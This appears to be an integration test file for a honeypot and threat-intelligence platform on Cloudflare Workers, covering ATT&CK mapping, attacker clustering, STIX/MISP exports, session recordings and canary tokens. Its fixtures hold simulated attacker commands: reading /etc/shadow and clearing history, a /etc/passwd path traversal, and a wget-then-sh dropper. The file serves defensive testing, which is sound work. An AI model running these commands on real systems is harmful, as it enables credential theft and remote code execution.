// The intelligence routes inside workerd against D1, through the Workers entry: events in over the
// agent API (client certificate as cf.tlsClientAuth), the housekeeping cron clustering identities,
// then ATT&CK (matrix, evidence, rules list, per-rule patch), identities and campaigns (incl. an admin
// merge and split), exports (STIX 2.1 bundle shape and deterministic ids, MISP core fields, Navigator
// layer), the session recording and transcript, and a canary created, triggered at /c/<slug> and
// fingerprinted; lists longer than D1's 100 bound parameters (attackers, tokens, deckies). (The OASIS
// schema validation runs on Node: ajv compiles with eval, which workerd forbids.)
import { createExecutionContext, createScheduledController, env, SELF, waitOnExecutionContext } from 'cloudflare:test';
import { beforeAll, describe, expect, it } from 'vitest';
import { EC_ALG, certFingerprint, x509 } from './pki/x509';
import worker from './runtime/workers';
import { signFingerprint } from './services/canaries/fingerprint';
import { adminToken, BASE, call, agentCertView } from './testing/workers-admin';

const SHELL = '198.51.100.140';
const WEB = '198.51.100.141';
const A = '203.0.113.142';
const B = '192.0.2.143';
const C = '198.51.100.144';
const HASSH = 'ec7378c1a92f5a8dde7e8b7a1ddf33d1';
const t0 = Date.now() - 600_000;
let admin = '';
let agent: { tlsClientAuth: Record<string, string> };
let hostId = '';
let n = 0;

const ev = (ip: string, service: string, eventType: string, fields: Record<string, string>, offsetS: number) => ({
  id: `wki-${++n}-${Math.random().toString(16).slice(2)}`, ts: new Date(t0 + offsetS * 1000).toISOString(), decky: 'web-01', service, eventType, srcIp: ip, srcPort: 40000 + n, fields, raw: `<134>1 - web-01 ${service} - ${eventType} -`,
});
const agentPost = async (path: string, body: unknown) => {
  const res = await SELF.fetch(BASE + path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body), cf: agent } as RequestInit);
  return { status: res.status, body: (await res.json()) as Record<string, any> };
};
const api = (path: string, opts: { body?: unknown; method?: string } = {}) => call(path, { ...opts, token: admin });
const idOf = async (ip: string) => ((await api(`/api/v1/attackers?q=${ip}`)).body.items as { id: string; ip: string }[]).find((x) => x.ip === ip)!.id;

// A short asciinema v2 cast uploaded in 3,000-byte pieces, as the sensor's recorder sends it.
const cast = `${[JSON.stringify({ version: 2, width: 80, height: 24, timestamp: Math.floor(t0 / 1000) }), ...Array.from({ length: 120 }, (_, i) => JSON.stringify([i / 10, 'o', `root@web-01:~# echo line-${i}\r\nline-${i}\r\n`]))].join('\n')}\n`;
const castBytes = new TextEncoder().encode(cast);
const pieces: string[] = [];
for (let i = 0; i < castBytes.length; i += 3000) pieces.push(btoa(String.fromCharCode(...castBytes.subarray(i, i + 3000))));

async function sha256Hex(bytes: Uint8Array<ArrayBuffer>): Promise<string> {
  return [...new Uint8Array(await crypto.subtle.digest('SHA-256', bytes))].map((b) => b.toString(16).padStart(2, '0')).join('');
}

async function housekeeping(): Promise<void> {
  const ctx = createExecutionContext();
  await worker.scheduled(createScheduledController({ cron: '*/10 * * * *', scheduledTime: Date.now() }), env, ctx);
  await waitOnExecutionContext(ctx);
}

beforeAll(async () => {
  admin = await adminToken();
  const tok = await api('/api/v1/hosts/enrollment-tokens', { body: { hostName: 'intel-sensor' } });
  const keys = (await crypto.subtle.generateKey(EC_ALG, true, ['sign', 'verify'])) as CryptoKeyPair;
  const csr = await x509.Pkcs10CertificateRequestGenerator.create({ name: 'CN=intel', keys, signingAlgorithm: EC_ALG });
  const enrolled = await call('/agent/v1/enroll', { body: { token: tok.body.token, csrPem: csr.toString('pem'), hostname: 'intel', agentVersion: '0.1.0' } });
  expect(enrolled.status).toBe(200);
  hostId = enrolled.body.hostId;
  const caSubject = new x509.X509Certificate(enrolled.body.caCertificatePem).subject;
  agent = { tlsClientAuth: agentCertView(caSubject, await certFingerprint(enrolled.body.certificatePem)) };
  const rec = { session_id: 'wk-rec-1' };
  const events = [
    ev(SHELL, 'ssh', 'command', { session_id: 's1', cmd: 'cat /etc/shadow; history -c' }, 0),
    ev(WEB, 'http', 'request', { method: 'GET', path: '/../../../../etc/passwd', user_agent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' }, 1),
    ...[A, B].flatMap((ip, i) => [
      ev(ip, 'sniffer', 'ssh_client_banner', { hassh: HASSH, client_banner: 'SSH-2.0-OpenSSH_9.2p1' }, 10 + i * 100),
      ev(ip, 'ssh', 'command', { session_id: `sess-${ip}`, cmd: 'wget http://198.51.100.9/x.sh -O /tmp/x.sh' }, 15 + i * 100),
      ev(ip, 'ssh', 'command', { session_id: `sess-${ip}`, cmd: 'sh /tmp/x.sh' }, 16 + i * 100),
    ]),
    ev(C, 'sniffer', 'ssh_client_banner', { hassh: 'f'.repeat(32) }, 300),
    ev(SHELL, 'ssh', 'connect', rec, 400),
    ev(SHELL, 'ssh', 'command', { ...rec, cmd: 'echo line-0' }, 401),
    ...pieces.map((data, seq) => ev(SHELL, 'ssh', 'recording_chunk', { ...rec, sid: 'wk-rec-1', seq: String(seq), of: String(pieces.length), data }, 460)),
    ev(SHELL, 'ssh', 'session_recorded', { ...rec, sid: 'wk-rec-1', duration_s: '12', bytes: String(castBytes.length), truncated: 'false', chunks: String(pieces.length), cast_sha256: await sha256Hex(castBytes) }, 460),
    ev(SHELL, 'ssh', 'disconnect', rec, 461),
  ];
  const res = await agentPost('/agent/v1/events', { events });
  expect(res.status).toBe(200);
  await housekeeping();
}, 60_000);

describe('ATT&CK routes on workerd + D1', () => {
  it('serves the fleet matrix and techniques with evidence per attacker and per set', async () => {
    const m = await api('/api/v1/attack/matrix');
    expect(m.status).toBe(200);
    expect(m.body.tactics.map((t: { short: string }) => t.short)).toContain('credential-access');
    const ids = m.body.techniques.map((t: { techniqueId: string }) => t.techniqueId);
    expect(ids).toEqual(expect.arrayContaining(['T1003.008', 'T1070.003', 'T1190', 'T1595.002']));
    const shell = await idOf(SHELL);
    const one = await api(`/api/v1/attackers/${shell}/techniques`);
    const shadow = one.body.techniques.find((t: { techniqueId: string }) => t.techniqueId === 'T1003.008');
    expect(shadow.tags[0]).toMatchObject({ ruleId: 'R0014', source: 'command', evidence: { command: 'cat /etc/shadow; history -c' } });
    const both = await api(`/api/v1/attack/techniques?ids=${shell},${await idOf(WEB)}`);
    expect(both.body.techniques.map((t: { techniqueId: string }) => t.techniqueId)).toEqual(expect.arrayContaining(['T1003.008', 'T1190', 'T1595.002']));
    expect((await api('/api/v1/attack/techniques?ids=nothex')).status).toBe(422);
    // An identity's members can be many: more ids than D1's 100 bound parameters per statement.
    const many = [shell, ...Array.from({ length: 199 }, (_, i) => i.toString(16).padStart(32, 'e'))];
    const big = await api(`/api/v1/attack/techniques?ids=${many.join(',')}`);
    expect(big.status).toBe(200);
    expect(big.body.techniques.map((t: { techniqueId: string }) => t.techniqueId)).toEqual(expect.arrayContaining(['T1003.008', 'T1070.003']));
  });

  it('lists rules and lets an admin disable, cap and re-enable one', async () => {
    const list = await api('/api/v1/attack/rules');
    expect(list.status).toBe(200);
    expect(list.body.items.find((r: { id: string }) => r.id === 'R0014')).toMatchObject({ enabled: true, confidenceMax: null, techniques: [{ id: 'T1003.008', name: 'OS Credential Dumping: /etc/passwd and /etc/shadow' }] });
    const patched = await api('/api/v1/attack/rules/R0014', { method: 'PATCH', body: { enabled: false, confidenceMax: 0.5 } });
    expect(patched.status).toBe(200);
    expect(patched.body).toMatchObject({ id: 'R0014', enabled: false, confidenceMax: 0.5, updatedBy: 'admin' });
    expect((await api('/api/v1/attack/rules')).body.items.find((r: { id: string }) => r.id === 'R0014')).toMatchObject({ enabled: false, confidenceMax: 0.5 });
    expect((await api('/api/v1/attack/rules/R0014', { method: 'PATCH', body: { confidenceMax: 2 } })).status).toBe(422);
    expect((await api('/api/v1/attack/rules/R9999', { method: 'PATCH', body: { enabled: false } })).status).toBe(404);
    expect((await api('/api/v1/attack/rules/R0014', { method: 'PATCH', body: { enabled: true, confidenceMax: null } })).body).toMatchObject({ enabled: true, confidenceMax: null });
  });
});

describe('identities and campaigns on workerd + D1', () => {
  let id = '';
  it('the cron clustered the two addresses with one SSH client and dropper into one identity', async () => {
    const list = await api(`/api/v1/identities?ip=${A}`);
    expect(list.status).toBe(200);
    expect(list.body.items).toHaveLength(1);
    id = list.body.items[0].id;
    expect(list.body.items[0]).toMatchObject({ memberCount: 2, fingerprints: [`hassh:${HASSH}`] });
    expect([...list.body.items[0].ips].sort()).toEqual([A, B].sort());
    const detail = await api(`/api/v1/identities/${id}`);
    expect(detail.body.edges[0].evidence.map((e: { kind: string }) => e.kind)).toEqual(expect.arrayContaining(['hassh', 'infrastructure']));
    expect((await api(`/api/v1/identities/${id}/members`)).body.items).toHaveLength(2);
    expect((await api(`/api/v1/identities/${id}/observations`)).body.timeline.length).toBeGreaterThan(0);
    expect((await api(`/api/v1/identities/${'0'.repeat(32)}`)).status).toBe(404);
    expect((await api('/api/v1/campaigns')).status).toBe(200);
    expect((await api('/api/v1/identities/breakdown')).body).toMatchObject({ countries: expect.any(Array), asns: expect.any(Array) });
  });

  it('an admin merges a third address in and splits it out again', async () => {
    const c = await idOf(C);
    const merged = await api(`/api/v1/identities/${id}/merge`, { body: { attackerId: c } });
    expect(merged.status).toBe(200);
    expect(merged.body).toMatchObject({ identityId: id, applied: true });
    expect((await api(`/api/v1/identities/${id}`)).body.members).toHaveLength(3);
    const split = await api(`/api/v1/identities/${id}/members/${c}`, { method: 'DELETE' });
    expect(split.status).toBe(200);
    expect((await api(`/api/v1/identities/${id}`)).body.members).toHaveLength(2);
  });

  it('exports the identity and the fleet: STIX 2.1 bundle shape with stable ids, MISP event, Navigator layer', async () => {
    const stix = await api('/api/v1/exports/fleet/stix');
    expect(stix.status).toBe(200);
    expect(stix.headers.get('content-disposition')).toBe('attachment; filename="decnet-fleet.stix.json"');
    const bundle = stix.body as { type: string; id: string; objects: Array<Record<string, any>> };
    expect(bundle.type).toBe('bundle');
    expect(bundle.id).toMatch(/^bundle--[0-9a-f-]{36}$/);
    const ids = new Set(bundle.objects.map((o) => o.id));
    expect(ids.size).toBe(bundle.objects.length);
    for (const o of bundle.objects) {
      expect(o.id.startsWith(`${o.type}--`)).toBe(true);
      if (!['ipv4-addr', 'ipv6-addr', 'file'].includes(o.type)) expect([o.id, o.spec_version]).toEqual([o.id, '2.1']);
      for (const [k, v] of Object.entries(o)) {
        if (k.endsWith('_ref')) expect(ids.has(v as string), `${o.id}.${k}`).toBe(true);
        if (k.endsWith('_refs')) for (const r of v as string[]) expect(ids.has(r), `${o.id}.${k}`).toBe(true);
      }
    }
    const of = (type: string) => bundle.objects.filter((o) => o.type === type);
    expect(of('ipv4-addr').map((o) => o.value)).toEqual(expect.arrayContaining([SHELL, WEB, A, B, C]));
    expect(of('attack-pattern').map((p) => p.external_references[0].external_id)).toEqual(expect.arrayContaining(['T1003.008', 'T1190']));
    expect(of('threat-actor').map((o) => o.name)).toContain(`DECNET identity ${id.slice(0, 12)}`);
    expect(of('relationship').every((r) => r.relationship_type === 'uses')).toBe(true);
    expect((await api('/api/v1/exports/fleet/stix')).body).toEqual(stix.body);
    const ident = await api(`/api/v1/exports/identities/${id}/stix`);
    expect(ident.body.objects.filter((o: { type: string }) => o.type === 'observed-data')).toHaveLength(2);
    const misp = await api(`/api/v1/exports/identities/${id}/misp`);
    for (const k of ['uuid', 'info', 'date', 'threat_level_id', 'analysis', 'published', 'timestamp', 'distribution', 'Orgc', 'Attribute']) expect(misp.body.Event, k).toHaveProperty(k);
    expect(misp.body.Event.Attribute.map((x: { type: string; value: string }) => `${x.type}=${x.value}`).sort()).toEqual(expect.arrayContaining([`ip-src=${A}`, `ip-src=${B}`]));
    const nav = await api(`/api/v1/exports/attackers/${await idOf(SHELL)}/navigator`);
    expect(nav.body).toMatchObject({ domain: 'enterprise-attack', versions: { layer: '4.5' } });
    expect(nav.body.techniques.map((t: { techniqueID: string }) => t.techniqueID)).toEqual(expect.arrayContaining(['T1003.008', 'T1070.003']));
    expect((await api(`/api/v1/exports/identities/${'0'.repeat(32)}/stix`)).status).toBe(404);
  });
});

describe('recordings and canaries on workerd + D1', () => {
  it('serves the uploaded session recording, verified, and its transcript', async () => {
    const sessions = (await api('/api/v1/sessions?service=ssh&limit=100')).body.items as Array<{ id: string }>;
    const sid = sessions.find((s) => s.id.endsWith('/wk-rec-1'))!.id;
    expect(sid).toBe(`${hostId}/web-01/ssh/wk-rec-1`);
    const path = (what: string) => `${BASE}/api/v1/sessions/${encodeURIComponent(sid)}/${what}`;
    const rec = await SELF.fetch(path('recording'), { headers: { authorization: `Bearer ${admin}` } });
    expect(rec.status).toBe(200);
    expect(rec.headers.get('x-recording-verified')).toBe('true');
    expect(new TextDecoder().decode(await rec.arrayBuffer())).toBe(cast);
    const tr = await SELF.fetch(path('transcript'), { headers: { authorization: `Bearer ${admin}` } });
    expect(await tr.text()).toContain('root@web-01:~# echo line-119\nline-119');
    expect((await SELF.fetch(path('recording'))).status).toBe(401);
  });

  it('creates a canary, records a /c/<slug> trigger and a signed fingerprint, and 404s unknown slugs', async () => {
    // No DNS listener on Workers: a DNS token needs a Node control plane with a delegated zone.
    const dns = await api('/api/v1/canaries', { body: { generator: 'dns' } });
    expect([dns.status, dns.body.error?.message]).toEqual([409, expect.stringContaining('DECNET_CANARY_DNS_ZONE')]);
    const made = await api('/api/v1/canaries', { body: { generator: 'html', memo: 'workers bait' } });
    expect(made.status).toBe(201);
    expect(made.body.url).toBe(`${BASE}/c/${made.body.slug}`);
    const hit = await SELF.fetch(`${BASE}/c/${made.body.slug}`, { headers: { 'user-agent': 'curl/8.5.0', 'cf-connecting-ip': SHELL } });
    expect([hit.status, hit.headers.get('content-type'), hit.headers.get('server')]).toEqual([200, 'image/gif', null]);
    const file = await SELF.fetch(`${BASE}/api/v1/canaries/${made.body.id}/file`, { headers: { authorization: `Bearer ${admin}` } });
    const nonce = (await file.text()).match(/_hmac\("([0-9a-f]{32})"/)?.[1];
    expect(nonce).toMatch(/^[0-9a-f]{32}$/);
    const json = JSON.stringify({ userAgent: 'HeadlessChrome', timeZone: 'UTC', languages: ['en-US'], webdriver: true });
    const fp = await SELF.fetch(`${BASE}/c/${made.body.slug}/fp`, { method: 'POST', headers: { 'content-type': 'text/plain', 'cf-connecting-ip': SHELL }, body: JSON.stringify({ json, sig: signFingerprint(nonce!, json) }) });
    expect(fp.status).toBe(204);
    const trig = (await api(`/api/v1/canaries/${made.body.id}/triggers`)).body.items as Array<Record<string, any>>;
    expect(trig.map((t) => t.via).sort()).toEqual(['fingerprint', 'http']);
    const http = trig.find((t) => t.via === 'http')!;
    expect(http).toMatchObject({ srcIp: SHELL, userAgent: 'curl/8.5.0', attackerId: await idOf(SHELL) });
    expect(trig.find((t) => t.via === 'fingerprint')).toMatchObject({ fingerprintVerified: true, fingerprint: { webdriver: true } });
    for (const p of ['/c/aaaaaaaaaaaaaaaaaaaaaaaa', '/c/', `/c/${made.body.slug}/x/y`]) {
      const res = await SELF.fetch(BASE + p);
      expect([p, res.status, await res.text()]).toEqual([p, 404, 'Not Found\n']);
    }
    expect((await api(`/api/v1/canaries/${made.body.id}`, { method: 'DELETE' })).status).toBe(200);
    expect((await SELF.fetch(`${BASE}/c/${made.body.slug}`)).status).toBe(404);
  });

  it('lists more tokens than D1 binds per statement, and plants bait into a host with over 100 deckies', async () => {
    for (let i = 0; i < 11; i++) {
      const made = await Promise.all(Array.from({ length: 10 }, () => api('/api/v1/canaries', { body: { generator: 'env', memo: 'many' } })));
      expect(made.map((m) => m.status)).toEqual(Array(10).fill(201));
    }
    const list = await api('/api/v1/canaries');
    expect(list.status).toBe(200);
    expect(list.body.items.length).toBeGreaterThanOrEqual(110);
    const topo = await api('/api/v1/topologies/generate', { body: { name: 'bait-maze', hostId, seed: 7, depth: 2, branching: 3, deckiesPerLan: 8, crossEdgeProbability: 0 } });
    expect(topo.status).toBe(201);
    expect(topo.body.deckies.length).toBeGreaterThan(100);
    expect((await api(`/api/v1/topologies/${topo.body.id}/deploy`, { body: {} })).status).toBe(200);
    const target = topo.body.deckies.at(-1).name as string;
    const planted = await api(`/api/v1/canaries/${list.body.items[0].id}/placements`, { body: { decky: target } });
    expect(planted.status).toBe(201);
    const res = await SELF.fetch(`${BASE}/agent/v1/desired-state`, { cf: agent } as RequestInit);
    expect(res.status).toBe(200);
    const ds = (await res.json()) as { deckies: Array<{ name: string; serviceConfig: Record<string, Record<string, unknown>> }> };
    expect(ds.deckies.length).toBeGreaterThan(100);
    expect(JSON.stringify(ds.deckies.find((d) => d.name === target))).toContain(planted.body.path);
  });
});

describe('D1 parameter limits', () => {
  it('deploys, re-deploys and replaces an INI fleet of 120 deckies', async () => {
    const ini = '[bulk-a]\nservices = ssh\namount = 60\n\n[bulk-b]\nservices = ssh\namount = 60\n';
    const first = await api('/api/v1/deckies/deploy', { body: { iniContent: ini, hostId } });
    expect([first.status, first.body.deckies?.length]).toEqual([200, 120]);
    expect((await api('/api/v1/deckies/deploy', { body: { iniContent: ini, hostId } })).status).toBe(200);
    const replaced = await api('/api/v1/deckies/deploy', { body: { iniContent: '[bulk-solo]\nservices = ssh\n', hostId, replaceFleet: true } });
    expect(replaced.status).toBe(200);
    const left = ((await api(`/api/v1/deckies?hostId=${hostId}`)).body.items as Array<{ name: string }>).map((d) => d.name);
    expect(left).toContain('bulk-solo');
    expect(left.filter((n) => n.startsWith('bulk-a') || n.startsWith('bulk-b'))).toEqual([]);
  });
});
